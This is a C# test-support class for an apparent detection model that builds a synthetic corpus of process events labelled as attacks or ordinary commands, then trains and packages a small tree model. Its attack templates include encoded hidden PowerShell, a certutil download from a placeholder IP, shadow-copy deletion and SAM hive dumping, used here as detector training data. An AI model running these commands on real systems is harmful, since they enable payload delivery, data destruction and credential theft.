using Changeling.Events;
using Changeling.Features;
using Changeling.Scoring;
using Changeling.TestSupport;

namespace Changeling.Training.Tests;

/// <summary>A tiny corpus and model: own rows, seconds to train.</summary>
internal static class Tiny
{
    public const int Seed = 3;

    public static readonly ModelSettings Settings = new(30, 7, 0.2, 3, 0.5, 1);

    private static readonly string[] Attacks =
    [
        "powershell -nop -w hidden -enc {0}", "certutil -urlcache -split -f http://192.0.2.{0}/a.bin a{0}.bin",
        "rundll32 C:\\Users\\Public\\x{0}.dll,Start",
        "cmd /c vssadmin delete shadows /all /quiet & echo {0}", "reg save hklm\\sam C:\\Temp\\sam{0}.hiv",
    ];

    private static readonly string[] Ordinary =
    [
        "notepad C:\\Users\\mara\\Documents\\notes{0}.txt", "svchost -k netsvcs -p -s Service{0}",
        "msiexec /i C:\\Packages\\app{0}.msi /qn", "git status --porcelain={0}", "chrome --type=renderer --id={0}",
    ];

    /// <summary>Rows of ten datasets: in each some attacks and some ordinary rows; one tuple is in two datasets.</summary>
    public static IReadOnlyList<CorpusRow> Rows { get; } = [.. Make()];

    public static IReadOnlyList<ModelRow> Trained { get; } = TrainingSet.Build(Rows, Seed, ownRows: false);

    public static LaunchModel Model { get; } = LaunchModelTrainer.Fit(Trained, Settings, Seed);

    public static ModelPair Pair => Model.Whole;

    public static TreeEnsemble Ensemble => Pair.Trees;

    public static ModelManifest Manifest { get; } = new()
    {
        Version = "1.0.0",
        FeatureSchemaVersion = FeatureSchema.Version,
        Features = FeatureSchema.Length,
        Threshold = 0.5,
        Calibration = new(1, 0),
        Balance = Settings.Balance,
    };

    public static byte[] Package { get; } = ModelPackage.Write(Manifest, Model);

    private static IEnumerable<CorpusRow> Make()
    {
        for (var i = 0; i < 200; i++)
        {
            var isAttack = i % 2 == 1;
            var commandLine =
                string.Format(System.Globalization.CultureInfo.InvariantCulture, (isAttack ? Attacks : Ordinary)[i / 2 % 5], i);
            var child = commandLine.Split(' ')[0] + ".exe";
            yield return new()
            {
                Id = $"row{i}",
                File = "recorded",
                Role = CorpusRole.Recorded,
                Source = $"repository{i % 3}:file",
                Dataset = $"dataset{i / 20}",
                Format = "sysmon-1",
                Label = isAttack ? 1 : 0,
                IsWeak = i % 50 == 49,
                TupleId = i is 10 or 50 ? "shared" : $"tuple{i}",
                Event = Row(isAttack ? "winword.exe" : "explorer.exe", child, commandLine),
            };
        }
    }

    public static ProcessEvent Row(string parent, string child, string commandLine) => Some.ProcessEvent(parent, child, commandLine);
}
